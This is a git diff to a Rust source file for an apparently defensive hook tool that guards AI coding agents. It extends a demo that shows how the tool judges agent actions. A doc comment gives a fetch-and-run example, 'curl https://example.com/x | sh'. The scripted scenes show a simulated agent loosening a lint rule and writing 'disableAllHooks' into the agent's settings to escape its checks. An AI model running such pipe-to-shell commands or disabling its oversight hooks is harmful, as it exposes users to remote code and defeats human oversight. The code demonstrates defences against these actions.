@@ -2,6 +2,7 @@
 //! program as the client would and shows what it says.
 
 mod alone;
+mod own;
 
 use std::path::{Path, PathBuf};
 use std::time::Duration;
@@ -12,19 +13,28 @@ use state::process::{self, Program};
 use state::reach::Fence;
 use state::{Machine, atomic, files, git};
 
+use super::setup::peers;
 use crate::exit;
 use crate::ui::{Printer, Tone};
 
 /// Play a short agent session in a scratch project and show what the agent and you would see.
 ///
-/// Needs no network and no other tool than git. Nothing outside the scratch folder is touched.
+/// With a command, what would be said to that one: `plimsoll try 'curl https://example.com/x | sh'`. It is judged and never run.
+///
+/// Needs no network and no other tool than git. Nothing outside the scratch folder is touched. At a terminal it goes on at your
+/// Enter, one screen at a time.
 #[derive(Debug, clap::Args)]
 pub(crate) struct Args {
+    /// A shell command of your own, in quotes
+    command: Option<String>,
+    /// As another agent would call it, such as codex
+    #[arg(long, value_name = "NAME", conflicts_with = "alone")]
+    agent: Option<String>,
     /// Keep the scratch project and say where it is
     #[arg(long)]
     keep: bool,
     /// Show an agent that works alone (`profile: autonomous`), and the project's own commands
-    #[arg(long)]
+    #[arg(long, conflicts_with = "command")]
     alone: bool,
 }
 
@@ -41,10 +51,23 @@ struct Stage<'a> {
 
 pub(crate) fn run(machine: &Machine, printer: &Printer, args: &Args) -> anyhow::Result<u8> {
     let program = machine.executable().context("it is not known where this program lies")?;
+    let dialect = match args.agent.as_deref() {
+        None | Some("claude" | "claude-code") => None,
+        Some(name) => Some(peers::find(name).with_context(|| {
+            let near = crate::ui::nearest(name, peers::all().map(|dialect| dialect.id));
+            let near = near.map(|near| format!("; did you mean {near}?")).unwrap_or_default();
+            format!("there is no agent {name}{near}")
+        })?),
+    };
     let work = files::scratch_dir("plimsoll-try").context("no scratch folder could be made")?;
     let root = work.join("project");
     let stage = Stage { printer, program: program.to_string_lossy().into_owned(), root, work: work.clone() };
-    let played = if args.alone { stage.play_alone() } else { stage.play() };
+    let played = match (&dialect, args.command.as_deref()) {
+        (Some(dialect), own) => stage.play_agent(dialect, own),
+        (None, Some(command)) => stage.play_own(command),
+        (None, None) if args.alone => stage.play_alone(),
+        (None, None) => stage.play(),
+    };
     if args.keep {
         printer.line(&format!("\nThe scratch project is {}", work.display()));
     } else {
@@ -79,6 +102,7 @@ impl Stage<'_> {
         let edit = json!({"file_path": self.path(".ruff.toml"), "old_string": "line-length = 88", "new_string": "line-length = 300"});
         self.hook(&tool("PreToolUse", "Edit", &edit), Expect::Answer)?;
 
+        self.pause();
         self.say("It tries another door, the hooks themselves:");
         let write = json!({"file_path": self.path("src/../.claude/settings.json"), "content": "{\"disableAllHooks\": true}"});
         self.hook(&tool("PreToolUse", "Write", &write), Expect::Answer)?;
@@ -98,6 +122,7 @@ impl Stage<'_> {
         self.file("app.py", fixed)?;
         self.hook(&tool("PostToolUse", "Write", &write), Expect::Silence)?;
 
+        self.pause();
         self.say("Something else (a formatter, a script) has changed the rules meanwhile. The agent wants to stop:");
         self.file(".ruff.toml", "line-length = 300\n")?;
         self.hook(&json!({"hook_event_name": "Stop", "stop_hook_active": false}), Expect::Answer)?;
@@ -146,7 +171,21 @@ impl Stage<'_> {
         Ok(())
     }
 
+    /// One screen at a time, where somebody reads along.
+    fn pause(&self) {
+        use std::io::{BufRead, IsTerminal};
+        if std::io::stdin().is_terminal() && std::io::stdout().is_terminal() {
+            self.printer.toned(Tone::Faint, "\nEnter: the next screen");
+            let _ = std::io::stdin().lock().read_line(&mut String::new());
+            self.printer.begin_screen();
+        }
+    }
+
     fn say(&self, text: &str) {
+        // What a step says mostly fits below this.
+        if self.printer.is_full(14) {
+            self.pause();
+        }
         self.printer.line("");
         self.printer.toned(Tone::Title, text);
     }
@@ -190,7 +229,8 @@ impl Stage<'_> {
         }
         let specific = &json["hookSpecificOutput"];
         if let Some(command) = specific["updatedInput"]["command"].as_str() {
-            self.printer.line(&format!("    {}: {command}", self.printer.paint(Tone::Good, "runs instead")));
+            let label = self.printer.paint(Tone::Good, "runs instead");
+            self.printer.hanging(&format!("    {label}: {command}"), 2);
         }
         let tone = if specific["permissionDecision"] == "allow" { Tone::Good } else { Tone::Bad };
         for (label, text, tone) in [
@@ -201,11 +241,9 @@ impl Stage<'_> {
         ] {
             if let (Some(label), Some(text)) = (label, text.as_str()) {
                 let text = text.replace(&format!("{}/", self.root.display()), "");
-                self.printer.line(&format!(
-                    "    {}: {}",
-                    self.printer.paint(tone, label),
-                    text.trim_end().replace('\n', "\n      ")
-                ));
+                let label = self.printer.paint(tone, label);
+                self.printer
+                    .hanging(&format!("    {label}: {}", text.trim_end().replace('\n', "\n      ")), 2);
             }
         }
     }
